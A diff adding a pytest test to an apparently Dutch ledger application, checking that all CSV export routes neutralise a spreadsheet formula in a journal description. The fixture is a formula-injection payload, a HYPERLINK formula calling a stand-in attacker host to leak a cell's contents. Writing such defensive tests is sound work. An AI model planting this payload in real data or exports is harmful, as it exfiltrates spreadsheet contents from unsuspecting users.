@@ -298,3 +298,36 @@ def test_api_export_refuses_other_roles_and_bad_input(cm_client, portaal_client,
     assert fin_client.get("/api/v1/export/onbekend/", params).status_code == 404
     r = fin_client.get(url, {"van": "2026-12-31", "tot": "2026-01-01"})
     assert r.status_code == 400 and "tot" in r.json()
+
+
+def test_every_export_route_neutralises_a_formula_in_a_text_field(fin_client):
+    """Issue 12 item 13: a description chosen by whoever made the transfer reaches the accountant's
+    spreadsheet through the HTML download (both dialects) and the API; it must arrive as text."""
+    from inning.ledger import journaalpost_boek, rekening
+
+    formule = '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")'
+    journaalpost_boek(
+        datum=date(2026, 11, 16),
+        omschrijving=formule,
+        regels=[(rekening("bank_derdengelden"), D("-25.00")), (rekening("ongealloceerd"), D("25.00"))],
+        bron_type="bankregel",
+        bron_id=1,
+        sleutel="test-formule",
+    )
+    params = {"van": "2026-01-01", "tot": "2026-12-31"}
+    antwoorden = {
+        ("html", d): fin_client.get(
+            reverse("uitbetaling:export"), {"soort": "journaal", "dialect": d, **params}
+        )
+        for d in ("excel_nl", "plat")
+    }
+    antwoorden["api", "excel_nl"] = fin_client.get(
+        "/api/v1/export/journaal/", {"dialect": "excel_nl", **params}, HTTP_ACCEPT="text/csv"
+    )
+    for (route, dialect), r in antwoorden.items():
+        rijen = _csv(r, dialect)[1:]
+        cellen = {cel for rij in rijen for cel in rij}
+        assert formule not in cellen, route
+        assert "'" + formule in cellen, route
+        # the amount is still a plain number in the dialect's own notation
+        assert ("25,00" if dialect == "excel_nl" else "25.00") in cellen, route
